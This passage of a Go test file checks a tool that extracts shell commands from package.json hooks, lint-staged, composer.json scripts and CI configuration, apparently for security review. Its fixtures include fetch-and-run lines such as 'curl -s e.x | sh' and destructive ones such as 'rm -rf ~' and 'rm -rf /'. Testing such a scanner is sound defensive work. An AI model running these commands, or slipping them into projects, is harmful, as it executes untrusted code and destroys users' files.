		{"scripts not an object", `{"scripts":"ls","other":{"scripts":{"a":"b"}}}`, nil},
		{"multi-line", "{\n  \"scripts\": {\n    \"t\":\n      \"go test\"\n  }\n}\n", []extracted{{"go test", "4:8"}}},
		// Hooks managers configured in package.json run these on commit
		// or on the staged files; none was read.
		{"husky v4 hooks", `{"husky":{"skip":"x","hooks":{"pre-commit":"curl -s e.x | sh"}}}`, []extracted{{"curl -s e.x | sh", "1:45"}}},
		{"yorkie and simple-git-hooks", `{"gitHooks":{"pre-push":"rm -rf ~"},"simple-git-hooks":{"pre-commit":"make x","preserveUnused":true}}`,
			[]extracted{{"rm -rf ~", "1:26"}, {"make x", "1:71"}}},
		{"lint-staged string and list", `{"lint-staged":{"*.js":"eslint --fix","*.go":["gofmt -l", "curl e.x | sh"],"*.md":[]}}`,
			[]extracted{{"eslint --fix", "1:25"}, {"gofmt -l", "1:48"}, {"curl e.x | sh", "1:60"}}},
		{"a path only through its parents", `{"hooks":{"pre-commit":"x"},"husky":{"pre-commit":"y","hooks":"z"},"x":{"husky":{"hooks":{"a":"b"}}}}`, nil},
	})
}

// TestExtractComposer: Composer runs composer.json's scripts on install
// (post-install-cmd) and on composer run; they were not read.
func TestExtractComposer(t *testing.T) {
	checkExtract(t, "composer.json", []struct {
		name, src string
		want      []extracted
	}{
		{"event scripts", `{"name":"a/b","scripts":{"post-install-cmd":["@php artisan x","curl -s e.x | sh"],"test":"phpunit","all":["@test","@putenv PATH=./bin:$PATH"]}}`,
			[]extracted{{"php artisan x", "1:48"}, {"curl -s e.x | sh", "1:64"}, {"phpunit", "1:91"}, {"export PATH=./bin:$PATH", "1:116"}}},
		{"only scripts", `{"config":{"scripts":{"a":"rm -rf ~"}},"extra":{"x":"rm -rf ~"}}`, nil},
	})
	if got := KindOf("lib/composer.json"); got != Composer {
		t.Errorf("KindOf(lib/composer.json) = %q, want %q", got, Composer)
	}
}

func TestExtractSyntaxErrors(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		{"package.json", "{\n  \"scripts\": {\n    \"a\": \"ls\",\n  }\n}\n", "package.json:4:3: json does not parse"},
		{"package.json", `{"scripts": {"a": "ls"`, "package.json:1:23: json does not parse: unexpected end of input"},
		{"package.json", `[1]`, "package.json:1:2: json does not parse"},
		{".gitlab-ci.yml", "a:\n  script: [\n", ".gitlab-ci.yml:2:1: yaml does not parse"},
		{".github/workflows/x.yml", "a: b\n c: d\n", ".github/workflows/x.yml:2:1: yaml does not parse"},
	}
	for _, tt := range tests {
		_, err := Extract(tt.name, []byte(tt.src))
		var se *SyntaxError
		if !errors.As(err, &se) || !strings.HasPrefix(err.Error(), tt.want) {
			t.Errorf("Extract(%s, %q) error = %v, want prefix %q", tt.name, tt.src, err, tt.want)
		}
	}
}

func TestExtractOtherFiles(t *testing.T) {
	for name, src := range map[string]string{
		"README.md": "rm -rf /\n", "tool.py": "#!/usr/bin/env python3\nimport os\n", "bin/run": "#!/bin/bash\nls\n",
	} {
		sn, err := Extract(name, []byte(src))
		if err != nil {
			t.Fatal(err)
		}
		if want := name == "bin/run"; (len(sn) == 1) != want {
			t.Errorf("Extract(%s) = %d snippets, want script=%v", name, len(sn), want)
		}
	}
}

// TestGitlabLocalIncludes: every spelling of a repository include, and
// nothing for includes from elsewhere or input that does not parse.
func TestGitlabLocalIncludes(t *testing.T) {
	for src, want := range map[string]string{
		"include: ci/a.yml\n":                            "[ci/a.yml]",
		"include: {local: /ci/b.yml}\n":                  "[ci/b.yml]",
		"include:\n- local: 'ci/*.yml'\n- /x/../c.yml\n": "[ci/*.yml c.yml]",
		"include:\n- remote: https://e.x/a.yml\n- project: g/p\n  file: a.yml\n- template: T.yml\n- https://e.x/b.yml\n": "[]",
		"x: &i ci/d.yml\ninclude: *i\n": "[ci/d.yml]",
		"include: [\n":                  "[]",
		"- include: ci/e.yml\n":         "[]",
	} {
		if got := fmt.Sprint(gitlabLocalIncludes([]byte(src))); got != want {
			t.Errorf("gitlabLocalIncludes(%q) = %s, want %s", src, got, want)
		}
	}
}
